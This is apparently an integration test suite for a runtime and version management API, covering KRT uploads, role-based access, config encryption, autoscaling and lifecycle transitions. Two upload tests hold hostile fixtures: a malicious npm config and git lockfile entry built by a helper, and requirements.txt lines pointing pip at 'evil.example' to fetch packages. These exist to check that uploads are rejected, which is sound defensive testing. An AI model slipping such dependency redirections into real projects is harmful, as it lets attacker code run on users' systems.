import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getQueueToken } from '@nestjs/bullmq';
import { VERSIONS_QUEUE } from '@libs/jobs';
import { packKrt } from '@libs/krt';
import { MembershipsRepository, RuntimesRepository, VersionsRepository } from '@libs/persistence';
import { addNpmConfigAttack, startRedis } from '@libs/testing';
import type { Queue } from 'bullmq';
import { create } from 'tar';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { Harness } from './harness.js';

const VERSION_FIELDS =
  'name status errors config { completed vars { key type value isSet } } workflows { name nodes { name displayName } }';

describe('runtimes and versions over GraphQL and the upload endpoint', () => {
  let h: Harness;
  let work: string;
  let greeterKrt: string;
  let admin: string;
  let viewer: { id: string; email: string; session: string };
  let outsider: { id: string; email: string; session: string };

  const upload = async (runtimeId: string, file: Buffer | string, auth: Record<string, string>) => {
    const form = new FormData();
    const bytes = typeof file === 'string' ? await readFile(file) : file;
    form.append('file', new Blob([bytes]), 'version.krt');
    return fetch(`${h.url}/api/v1/runtimes/${runtimeId}/versions`, {
      method: 'POST',
      headers: auth,
      body: form,
    });
  };
  const asAdmin = () => ({ ...h.authHeaders({ session: admin }), 'x-requested-with': 'test' });
  const created = async (id: string) => {
    const result = await h.gql(
      'mutation($input: CreateRuntimeInput!) { createRuntime(input: $input) { id status } }',
      { input: { id, name: `Runtime ${id}`, description: '' } },
      { session: admin },
    );
    expect(result.errors).toBeUndefined();
    // The deployer is not running here: do what its `create` job does to the record.
    await h.get(RuntimesRepository).setStatus(id, 'CREATED');
  };

  beforeAll(async () => {
    h = await Harness.start();
    work = await mkdtemp(join(tmpdir(), 'kre-versions-'));
    greeterKrt = join(work, 'greeter.krt');
    await packKrt('examples/greeter', greeterKrt, { prefix: h.env.KRE_PREFIX });
    admin = await h.signIn(h.adminEmail);
    viewer = await h.user('viewer', 'USER', admin);
    outsider = await h.user('outsider', 'USER', admin);
    await created('rt-one');
    await created('rt-two');
    await h.gql(
      'mutation($input: AddRuntimeMemberInput!) { addRuntimeMember(input: $input) { role } }',
      { input: { runtimeId: 'rt-one', email: viewer.email, role: 'VIEWER' } },
      { session: admin },
    );
    await h.gql(
      'mutation($input: AddRuntimeMemberInput!) { addRuntimeMember(input: $input) { role } }',
      { input: { runtimeId: 'rt-two', email: outsider.email, role: 'ADMIN' } },
      { session: admin },
    );
  });
  afterAll(async () => {
    await h.close();
    await rm(work, { recursive: true, force: true });
  });

  it('validates createRuntime input field by field', async () => {
    const result = await h.gql(
      'mutation($input: CreateRuntimeInput!) { createRuntime(input: $input) { id } }',
      { input: { id: 'Bad--Id', name: '', description: '' } },
      { session: admin },
    );
    expect(result.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(JSON.stringify(result.errors)).toMatch(/input\.id/);
    expect(JSON.stringify(result.errors)).toMatch(/input\.name/);
  });

  it('refuses an invalid KRT with 422 and the KRT error shape, and stores nothing', async () => {
    const response = await upload(
      'rt-one',
      gzipSync(Buffer.from('not a tar archive at all')),
      asAdmin(),
    );
    expect(response.status).toBe(422);
    const body = (await response.json()) as {
      code: string;
      errors: { path: string; message: string }[];
    };
    expect(body.code).toBe('KRT_INVALID');
    expect(body.errors.length).toBeGreaterThan(0);
    const versions = await h.gql<{ versions: unknown[] }>(
      'query { versions(runtimeId: "rt-one") { name } }',
      {},
      { session: admin },
    );
    expect(versions.data?.versions).toEqual([]);
    expect(await h.connection().collection('krt_chunks').countDocuments({})).toBe(0);
  });

  it('refuses a KRT that configures npm or names a git dependency, naming each file and entry', async () => {
    // The reproduced attack: `.npmrc` pointing npm's git at a script of the KRT, and a lockfile
    // entry that makes npm call git. Packed by hand: `kre krt pack` refuses it too.
    const dir = join(work, 'npmrc-attack');
    await cp('examples/greeter', dir, { recursive: true });
    await addNpmConfigAttack(join(dir, 'src/make-greeting'), join(work, 'pwned'));
    const krt = join(work, 'npmrc-attack.krt');
    await create({ gzip: true, file: krt, cwd: dir, portable: true }, ['.']);
    const response = await upload('rt-one', krt, asAdmin());
    expect(response.status).toBe(422);
    const body = (await response.json()) as { code: string; errors: { path: string }[] };
    expect(body.code).toBe('KRT_INVALID');
    expect(body.errors.map((e) => e.path)).toEqual(
      expect.arrayContaining([
        'archive["src/make-greeting/.npmrc"]',
        'archive["src/make-greeting/package-lock.json"].packages["node_modules/x"]',
      ]),
    );
    expect(await h.connection().collection('krt_chunks').countDocuments({})).toBe(0);
  });

  it('refuses a KRT whose Python requirements point pip elsewhere, naming the file and line', async () => {
    const dir = join(work, 'python-requirements');
    await cp('examples/greeter', dir, { recursive: true });
    const manifest = join(dir, 'kre.yaml');
    await writeFile(
      manifest,
      (await readFile(manifest, 'utf8'))
        .replace('version: greeter-v1', 'version: greeter-py-v1')
        .replace(
          'image: kre/runner-node:latest\n    src: src/make-greeting/handler.mjs',
          'image: konstellation/kre-py:v2.1.5\n    src: src/make-greeting/main.py',
        ),
    );
    await writeFile(
      join(dir, 'src/make-greeting/main.py'),
      'async def handler(ctx, data):\n    return data\n',
    );
    await writeFile(
      join(dir, 'src/make-greeting/requirements.txt'),
      'protobuf==3.20.1\n--extra-index-url https://evil.example/simple\nlib @ https://evil.example/lib.tar.gz\n',
    );
    const krt = join(work, 'python-requirements.krt');
    await create({ gzip: true, file: krt, cwd: dir, portable: true }, ['.']);
    const response = await upload('rt-one', krt, asAdmin());
    expect(response.status).toBe(422);
    const body = (await response.json()) as { errors: { path: string; message: string }[] };
    expect(body.errors.map((e) => [e.path, e.message.split(':')[0]])).toEqual([
      ['archive["src/make-greeting/requirements.txt"]', 'line 2 "--extra-index-url https'],
      ['archive["src/make-greeting/requirements.txt"]', 'line 3 "lib @ https'],
    ]);
    expect(await h.connection().collection('krt_chunks').countDocuments({})).toBe(0);
  });

  it('refuses a cookie-authenticated upload without an anti-CSRF header', async () => {
    const response = await upload('rt-one', greeterKrt, h.authHeaders({ session: admin }));
    expect(response.status).toBe(403);
  });

  it('uploads the greeter KRT: CREATED, its workflows, and a config to complete', async () => {
    const response = await upload('rt-one', greeterKrt, asAdmin());
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({
      runtimeId: 'rt-one',
      name: 'greeter-v1',
      status: 'CREATED',
      krtVersion: 'v1',
    });
    const result = await h.gql<{ version: Record<string, unknown> }>(
      `query { version(runtimeId: "rt-one", name: "greeter-v1") { ${VERSION_FIELDS} } }`,
      {},
      { session: admin },
    );
    expect(result.data?.version).toMatchObject({
      name: 'greeter-v1',
      status: 'CREATED',
      config: {
        completed: false,
        vars: [{ key: 'GREETING', type: 'VARIABLE', value: null, isSet: false }],
      },
      workflows: [
        {
          name: 'greet',
          nodes: [
            { name: 'clean-name', displayName: 'Clean Name' },
            { name: 'make-greeting' },
            { name: 'format-reply' },
          ],
        },
      ],
    });
    const again = await upload('rt-one', greeterKrt, asAdmin());
    expect(again.status).toBe(409);
  });

  it('refuses to start with an incomplete config, and rejects unknown config keys by field', async () => {
    const start = await h.gql(
      'mutation { startVersion(input: {runtimeId: "rt-one", versionName: "greeter-v1", comment: "go"}) { status } }',
      {},
      { session: admin },
    );
    expect(start.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(start.errors?.[0]?.message).toMatch(/GREETING has no value/);
    const bad = await h.gql(
      'mutation($input: UpdateConfigurationInput!) { updateVersionUserConfiguration(input: $input) { name } }',
      {
        input: {
          runtimeId: 'rt-one',
          versionName: 'greeter-v1',
          configurationVariables: [{ key: 'NOPE', value: 'x' }],
        },
      },
      { session: admin },
    );
    expect(bad.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(JSON.stringify(bad.errors)).toContain('input.configurationVariables.0.key');
  });

  it('stores config values encrypted, shows them to managers and hides them from viewers', async () => {
    const set = await h.gql<{ updateVersionUserConfiguration: { config: { completed: boolean } } }>(
      'mutation($input: UpdateConfigurationInput!) { updateVersionUserConfiguration(input: $input) { config { completed } } }',
      {
        input: {
          runtimeId: 'rt-one',
          versionName: 'greeter-v1',
          configurationVariables: [{ key: 'GREETING', value: 'Hello there' }],
        },
      },
      { session: admin },
    );
    expect(set.data?.updateVersionUserConfiguration.config.completed).toBe(true);
    const raw = await h
      .connection()
      .collection('versions')
      .findOne({ _id: 'rt-one:greeter-v1' } as never);
    expect(JSON.stringify(raw)).not.toContain('Hello there');

    const query = `query { version(runtimeId: "rt-one", name: "greeter-v1") { config { vars { key value isSet } } } }`;
    const asAdminView = await h.gql<{ version: { config: { vars: unknown[] } } }>(
      query,
      {},
      { session: admin },
    );
    expect(asAdminView.data?.version.config.vars).toEqual([
      { key: 'GREETING', value: 'Hello there', isSet: true },
    ]);
    const asViewer = await h.gql<{ version: { config: { vars: unknown[] } } }>(
      query,
      {},
      { session: viewer.session },
    );
    expect(asViewer.data?.version.config.vars).toEqual([
      { key: 'GREETING', value: null, isSet: true },
    ]);
  });

  it('lists versions with one membership read per request, and finds the published one without listing', async () => {
    await created('rt-many');
    await h.gql(
      'mutation($input: AddRuntimeMemberInput!) { addRuntimeMember(input: $input) { role } }',
      { input: { runtimeId: 'rt-many', email: viewer.email, role: 'VIEWER' } },
      { session: admin },
    );
    const versions = h.connection().collection('versions');
    const original = await versions.findOne({ _id: 'rt-one:greeter-v1' } as never);
    await versions.insertMany(
      Array.from({ length: 6 }, (_, i) => ({
        ...original,
        _id: `rt-many:copy-${i}`,
        runtimeId: 'rt-many',
        name: `copy-${i}`,
        status: i === 2 ? 'PUBLISHED' : 'CREATED',
      })) as never[],
    );
    const roleOf = vi.spyOn(h.get(MembershipsRepository), 'roleOf');
    const list = vi.spyOn(h.get(VersionsRepository), 'list');
    try {
      const listed = await h.gql<{ versions: { name: string; config: { vars: unknown[] } }[] }>(
        'query { versions(runtimeId: "rt-many") { name config { vars { key value } } } }',
        {},
        { session: viewer.session },
      );
      expect(listed.errors).toBeUndefined();
      expect(listed.data?.versions).toHaveLength(6);
      expect(listed.data?.versions[0]?.config.vars).toEqual([{ key: 'GREETING', value: null }]);
      expect(roleOf).toHaveBeenCalledTimes(1); // the guard's, none per version

      list.mockClear();
      const runtime = await h.gql<{ runtime: { publishedVersion: string | null } }>(
        'query { runtime(id: "rt-many") { publishedVersion } }',
        {},
        { session: viewer.session },
      );
      expect(runtime.data?.runtime.publishedVersion).toBe('copy-2');
      expect(list).not.toHaveBeenCalled();
    } finally {
      roleOf.mockRestore();
      list.mockRestore();
    }
  });

  it('lets a VIEWER read but not act', async () => {
    const start = await h.gql(
      'mutation { startVersion(input: {runtimeId: "rt-one", versionName: "greeter-v1", comment: ""}) { status } }',
      {},
      { session: viewer.session },
    );
    expect(start.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(
      (
        await upload('rt-one', greeterKrt, {
          ...h.authHeaders({ session: viewer.session }),
          'x-requested-with': 't',
        })
      ).status,
    ).toBe(403);
  });

  it("sets a version's idle time (scale to zero) for a MANAGER, audited; refuses a VIEWER and a wrong value by field", async () => {
    const SET =
      'mutation($input: UpdateVersionScaleInput!) { updateVersionScale(input: $input) { scale { state replicas idleSeconds } } }';
    const set = (idleSeconds: unknown, session = admin) =>
      h.gql<{ updateVersionScale: { scale: Record<string, unknown> } }>(
        SET,
        {
          input: { runtimeId: 'rt-one', versionName: 'greeter-v1', idleSeconds, comment: 'quiet' },
        },
        { session },
      );
    // Not running: no state, no replicas; the idle time is its own.
    expect((await set(300)).data?.updateVersionScale.scale).toEqual({
      state: null,
      replicas: 0,
      idleSeconds: 300,
    });
    const read = await h.gql<{ version: { scale: { idleSeconds: number | null } } }>(
      '{ version(runtimeId: "rt-one", name: "greeter-v1") { scale { idleSeconds } } }',
      {},
      { session: viewer.session },
    );
    expect(read.data?.version.scale.idleSeconds).toBe(300);
    expect((await set(null)).data?.updateVersionScale.scale.idleSeconds).toBeNull();
    expect((await set(60, viewer.session)).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const wrong = await set(-1);
    expect(wrong.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      errors: [{ field: 'input.idleSeconds', message: 'must be 0 (never sleeps) or more' }],
    });
    const audit = await h.gql<{
      userActivityList: { items: { type: string; vars: { key: string; value: string }[] }[] };
    }>(
      '{ userActivityList(filters: {runtimeId: "rt-one"}) { items { type vars { key value } } } }',
      {},
      { session: admin },
    );
    const entries = audit.data!.userActivityList.items.filter(
      (i) => i.type === 'UPDATE_VERSION_SCALE',
    );
    expect(entries.map((e) => Object.fromEntries(e.vars.map((v) => [v.key, v.value])))).toEqual([
      { versionName: 'greeter-v1', idleSeconds: 'default', comment: 'quiet' },
      { versionName: 'greeter-v1', idleSeconds: '300', comment: 'quiet' },
    ]);
  });

  it("shows a node's batch settings from the KRT, and null where the KRT has none", async () => {
    const dir = join(work, 'batched');
    await cp('examples/greeter', dir, { recursive: true });
    const manifest = join(dir, 'kre.yaml');
    await writeFile(
      manifest,
      (await readFile(manifest, 'utf8'))
        .replace('version: greeter-v1', 'version: greeter-batched-v1')
        .replace(
          '    src: src/make-greeting/handler.mjs\n',
          '    src: src/make-greeting/handler.mjs\n    batch: { maxSize: 16, maxLatencyMs: 5 }\n',
        ),
    );
    const krt = join(work, 'batched.krt');
    await create({ gzip: true, file: krt, cwd: dir, portable: true }, ['.']);
    const response = await upload('rt-one', krt, asAdmin());
    expect(response.status).toBe(201);
    const read = await h.gql<{
      version: { workflows: { nodes: { name: string; batch: unknown }[] }[] };
    }>(
      '{ version(runtimeId: "rt-one", name: "greeter-batched-v1") { workflows { nodes { name batch { maxSize maxLatencyMs } } } } }',
      {},
      { session: admin },
    );
    expect(read.data!.version.workflows[0].nodes).toEqual([
      { name: 'clean-name', batch: null },
      { name: 'make-greeting', batch: { maxSize: 16, maxLatencyMs: 5 } },
      { name: 'format-reply', batch: null },
    ]);
  });

  it("sets a node's autoscaling bounds for a MANAGER, audited; refuses a VIEWER, an unknown node and wrong bounds by field", async () => {
    const nodes = await h.gql<{
      version: { workflows: { name: string; nodes: { name: string; autoscale: unknown }[] }[] };
    }>(
      '{ version(runtimeId: "rt-one", name: "greeter-v1") { workflows { name nodes { name autoscale { min max } } } } }',
      {},
      { session: admin },
    );
    const workflow = nodes.data!.version.workflows[0];
    const node = workflow.nodes[1];
    expect(node.autoscale).toBeNull();
    const SET =
      'mutation($input: UpdateNodeAutoscaleInput!) { updateNodeAutoscale(input: $input) { workflows { name nodes { name autoscale { min max } } } } }';
    const set = (bounds: Record<string, unknown>, session = admin) =>
      h.gql<{
        updateNodeAutoscale: {
          workflows: { name: string; nodes: { name: string; autoscale: unknown }[] }[];
        };
      }>(
        SET,
        {
          input: {
            runtimeId: 'rt-one',
            versionName: 'greeter-v1',
            workflowName: workflow.name,
            nodeName: node.name,
            comment: 'busy',
            ...bounds,
          },
        },
        { session },
      );
    const boundsOf = (r: Awaited<ReturnType<typeof set>>) =>
      r.data?.updateNodeAutoscale.workflows[0].nodes.map((n) => n.autoscale);
    expect(boundsOf(await set({ min: 1, max: 3 }))).toEqual([null, { min: 1, max: 3 }, null]);
    expect((await set({ min: 1, max: 2 }, viewer.session)).errors?.[0]?.extensions?.code).toBe(
      'FORBIDDEN',
    );
    expect((await set({ min: 3, max: 2 })).errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      errors: [{ field: 'input.max', message: 'must be at least input.min (3), not 2' }],
    });
    expect((await set({ min: 0, max: 2 })).errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      errors: [
        { field: 'input.min', message: expect.stringMatching(/^must be 1 or more/) as string },
      ],
    });
    expect((await set({ min: 2 })).errors?.[0]?.extensions).toMatchObject({
      errors: [
        { field: 'input.max', message: expect.stringMatching(/^must be set with/) as string },
      ],
    });
    expect((await set({ nodeName: 'nope', min: 1, max: 2 })).errors?.[0]?.extensions).toMatchObject(
      {
        errors: [
          {
            field: 'input.nodeName',
            message: expect.stringMatching(/^"nope" is not a node/) as string,
          },
        ],
      },
    );
    expect(boundsOf(await set({ min: null, max: null }))).toEqual([null, null, null]);
    const audit = await h.gql<{
      userActivityList: { items: { type: string; vars: { key: string; value: string }[] }[] };
    }>(
      '{ userActivityList(filters: {runtimeId: "rt-one"}) { items { type vars { key value } } } }',
      {},
      { session: admin },
    );
    const entries = audit.data!.userActivityList.items.filter(
      (i) => i.type === 'UPDATE_NODE_AUTOSCALE',
    );
    const id = `${workflow.name}.${node.name}`;
    expect(entries.map((e) => Object.fromEntries(e.vars.map((v) => [v.key, v.value])))).toEqual([
      { versionName: 'greeter-v1', node: id, bounds: 'krt', comment: 'busy' },
      { versionName: 'greeter-v1', node: id, bounds: '1..3', comment: 'busy' },
    ]);
  });

  it("sets the entrypoint's autoscaling bounds for a MANAGER, audited; refuses a VIEWER, an unknown version and wrong bounds by field", async () => {
    const READ =
      '{ version(runtimeId: "rt-one", name: "greeter-v1") { entrypointAutoscale { min max } } }';
    const read = async () =>
      (
        await h.gql<{ version: { entrypointAutoscale: unknown } }>(
          READ,
          {},
          { session: viewer.session },
        )
      ).data?.version.entrypointAutoscale;
    expect(await read()).toBeNull();
    const SET =
      'mutation($input: UpdateEntrypointAutoscaleInput!) { updateEntrypointAutoscale(input: $input) { entrypointAutoscale { min max } workflows { nodes { autoscale { min max } } } } }';
    const set = (bounds: Record<string, unknown>, session = admin) =>
      h.gql<{
        updateEntrypointAutoscale: {
          entrypointAutoscale: unknown;
          workflows: { nodes: { autoscale: unknown }[] }[];
        };
      }>(
        SET,
        {
          input: { runtimeId: 'rt-one', versionName: 'greeter-v1', comment: 'launch', ...bounds },
        },
        { session },
      );
    const set13 = (await set({ min: 1, max: 3 })).data?.updateEntrypointAutoscale;
    expect(set13?.entrypointAutoscale).toEqual({ min: 1, max: 3 });
    // The nodes' bounds are their own.
    expect(set13?.workflows[0].nodes.map((n) => n.autoscale)).toEqual([null, null, null]);
    expect(await read()).toEqual({ min: 1, max: 3 });
    expect((await set({ min: 1, max: 2 }, viewer.session)).errors?.[0]?.extensions?.code).toBe(
      'FORBIDDEN',
    );
    expect((await set({ min: 3, max: 2 })).errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      errors: [{ field: 'input.max', message: 'must be at least input.min (3), not 2' }],
    });
    expect((await set({ min: 0, max: 2 })).errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      errors: [
        { field: 'input.min', message: expect.stringMatching(/^must be 1 or more/) as string },
      ],
    });
    expect((await set({ min: 1, max: 101 })).errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      errors: [{ field: 'input.max', message: 'must be at most 100' }],
    });
    expect((await set({ min: 2 })).errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      errors: [
        {
          field: 'input.max',
          message: 'must be set with the other bound (both null: back to one replica)',
        },
      ],
    });
    expect((await set({ max: 2 })).errors?.[0]?.extensions).toMatchObject({
      errors: [
        { field: 'input.min', message: expect.stringMatching(/^must be set with/) as string },
      ],
    });
    expect((await set({ versionName: 'nope', min: 1, max: 2 })).errors?.[0]?.extensions?.code).toBe(
      'NOT_FOUND',
    );
    expect(await read()).toEqual({ min: 1, max: 3 });
    expect(
      (await set({ min: null, max: null })).data?.updateEntrypointAutoscale.entrypointAutoscale,
    ).toBeNull();
    expect(await read()).toBeNull();
    const audit = await h.gql<{
      userActivityList: { items: { type: string; vars: { key: string; value: string }[] }[] };
    }>(
      '{ userActivityList(filters: {runtimeId: "rt-one"}) { items { type vars { key value } } } }',
      {},
      { session: admin },
    );
    const entries = audit.data!.userActivityList.items.filter(
      (i) => i.type === 'UPDATE_ENTRYPOINT_AUTOSCALE',
    );
    expect(entries.map((e) => Object.fromEntries(e.vars.map((v) => [v.key, v.value])))).toEqual([
      { versionName: 'greeter-v1', bounds: 'one', comment: 'launch' },
      { versionName: 'greeter-v1', bounds: '1..3', comment: 'launch' },
    ]);
  });

  it('of two concurrent starts exactly one queues a job; the other gets INVALID_TRANSITION naming the status', async () => {
    const start = () =>
      h.gql<{ startVersion: { status: string } }>(
        'mutation { startVersion(input: {runtimeId: "rt-one", versionName: "greeter-v1", comment: "go"}) { status } }',
        {},
        { session: admin },
      );
    const results = await Promise.all([start(), start()]);
    const won = results.filter((r) => r.data?.startVersion);
    const lost = results.filter((r) => r.errors);
    expect(won.map((r) => r.data?.startVersion.status)).toEqual(['STARTING']);
    expect(lost[0]?.errors?.[0]).toMatchObject({
      message: 'cannot go from STARTING to STARTING',
      extensions: { code: 'INVALID_TRANSITION', from: 'STARTING' },
    });
    const queue = h.get<Queue>(getQueueToken(VERSIONS_QUEUE) as never);
    expect(await queue.getJobCounts('wait')).toEqual({ wait: 1 });
  });

  it('refuses a transition the status does not allow, with the exact code', async () => {
    const publish = await h.gql(
      'mutation { publishVersion(input: {runtimeId: "rt-one", versionName: "greeter-v1", comment: ""}) { status } }',
      {},
      { session: admin },
    );
    expect(publish.errors?.[0]).toMatchObject({
      extensions: { code: 'INVALID_TRANSITION', from: 'STARTING', to: 'PUBLISHED' },
    });
    const del = await h.gql(
      'mutation { deleteVersion(input: {runtimeId: "rt-one", versionName: "greeter-v1", comment: ""}) { status } }',
      {},
      { session: admin },
    );
    expect(del.errors?.[0]?.extensions).toMatchObject({
      code: 'INVALID_TRANSITION',
      from: 'STARTING',
    });
  });

  it('shows a member of another runtime nothing of this one: every query, mutation and the upload', async () => {
    const auth = { session: outsider.session };
    const notFound = (r: { errors?: { extensions?: Record<string, unknown> }[] }) =>
      r.errors?.[0]?.extensions?.code;
    expect(notFound(await h.gql('query { runtime(id: "rt-one") { id } }', {}, auth))).toBe(
      'NOT_FOUND',
    );
    expect(
      notFound(await h.gql('query { versions(runtimeId: "rt-one") { name } }', {}, auth)),
    ).toBe('NOT_FOUND');
    expect(
      notFound(
        await h.gql(
          'query { version(runtimeId: "rt-one", name: "greeter-v1") { name } }',
          {},
          auth,
        ),
      ),
    ).toBe('NOT_FOUND');
    expect(
      notFound(await h.gql('query { runtimeMembers(runtimeId: "rt-one") { email } }', {}, auth)),
    ).toBe('NOT_FOUND');
    expect(
      notFound(
        await h.gql('query { versionDocs(runtimeId: "rt-one", name: "greeter-v1") }', {}, auth),
      ),
    ).toBe('NOT_FOUND');
    for (const mutation of [
      'stopVersion',
      'publishVersion',
      'unpublishVersion',
      'deleteVersion',
      'startVersion',
    ]) {
      const r = await h.gql(
        `mutation { ${mutation}(input: {runtimeId: "rt-one", versionName: "greeter-v1", comment: ""}) { status } }`,
        {},
        auth,
      );
      expect(notFound(r), mutation).toBe('NOT_FOUND');
    }
    const config = await h.gql(
      'mutation($input: UpdateConfigurationInput!) { updateVersionUserConfiguration(input: $input) { name } }',
      { input: { runtimeId: 'rt-one', versionName: 'greeter-v1', configurationVariables: [] } },
      auth,
    );
    expect(notFound(config)).toBe('NOT_FOUND');
    expect(
      notFound(
        await h.gql(
          'mutation { deleteRuntime(input: {id: "rt-one", comment: ""}) { id } }',
          {},
          auth,
        ),
      ),
    ).toBe('NOT_FOUND');
    const list = await h.gql<{ runtimes: { id: string }[] }>('query { runtimes { id } }', {}, auth);
    expect(list.data?.runtimes.map((r) => r.id)).toEqual(['rt-two']);
    const response = await upload('rt-one', greeterKrt, {
      ...h.authHeaders(auth),
      'x-requested-with': 't',
    });
    expect(response.status).toBe(404);
  });

  it('serves docs/ of the KRT to members', async () => {
    const docs = await h.gql<{ versionDocs: string }>(
      'query { versionDocs(runtimeId: "rt-one", name: "greeter-v1", path: "docs/README.md") }',
      {},
      { session: viewer.session },
    );
    expect(docs.errors).toBeUndefined();
    expect(docs.data?.versionDocs).toBe(await readFile('examples/greeter/docs/README.md', 'utf8'));
  });

  it('refuses to delete a runtime while a version runs', async () => {
    const result = await h.gql(
      'mutation { deleteRuntime(input: {id: "rt-one", comment: "bye"}) { id } }',
      {},
      { session: admin },
    );
    expect(result.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    expect(result.errors?.[0]?.message).toMatch(/greeter-v1: STARTING/);
  });
});

describe('when the job queue is down', () => {
  let h: Harness;
  let redis: Awaited<ReturnType<typeof startRedis>>;
  let work: string;

  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), 'kre-queue-down-'));
    redis = await startRedis(work);
    h = await Harness.start({ REDIS_URL: redis.url });
  });
  afterAll(async () => {
    // Redis comes back where it was, so the app can close its queue connections.
    redis = await startRedis(work, redis.port);
    // TODO(#5): closing after a Redis outage can hang on a queue connection; bounded here.
    await Promise.race([h.close(), new Promise((resolve) => setTimeout(resolve, 10_000))]);
    await redis.stop();
    await rm(work, { recursive: true, force: true });
  });

  it('a lifecycle mutation fails clearly and leaves the status as it was', async () => {
    const admin = await h.signIn(h.adminEmail);
    await h.gql(
      'mutation { createRuntime(input: {id: "rt-q", name: "Q", description: ""}) { id } }',
      {},
      { session: admin },
    );
    await h.get(RuntimesRepository).setStatus('rt-q', 'CREATED');
    const krt = join(work, 'greeter.krt');
    await packKrt('examples/greeter', krt, { prefix: h.env.KRE_PREFIX });
    const form = new FormData();
    form.append('file', new Blob([await readFile(krt)]), 'greeter.krt');
    const uploaded = await fetch(`${h.url}/api/v1/runtimes/rt-q/versions`, {
      method: 'POST',
      headers: { ...h.authHeaders({ session: admin }), 'x-requested-with': 't' },
      body: form,
    });
    expect(uploaded.status).toBe(201);
    await h.gql(
      'mutation($input: UpdateConfigurationInput!) { updateVersionUserConfiguration(input: $input) { name } }',
      {
        input: {
          runtimeId: 'rt-q',
          versionName: 'greeter-v1',
          configurationVariables: [{ key: 'GREETING', value: 'Hi' }],
        },
      },
      { session: admin },
    );

    await redis.stop();
    const start = await h.gql(
      'mutation { startVersion(input: {runtimeId: "rt-q", versionName: "greeter-v1", comment: ""}) { status } }',
      {},
      { session: admin },
    );
    expect(start.errors?.[0]?.message).toMatch(/could not be queued.*nothing was changed/);
    const version = await h
      .connection()
      .collection('versions')
      .findOne({ _id: 'rt-q:greeter-v1' } as never);
    expect(version?.status).toBe('CREATED');
  });
});
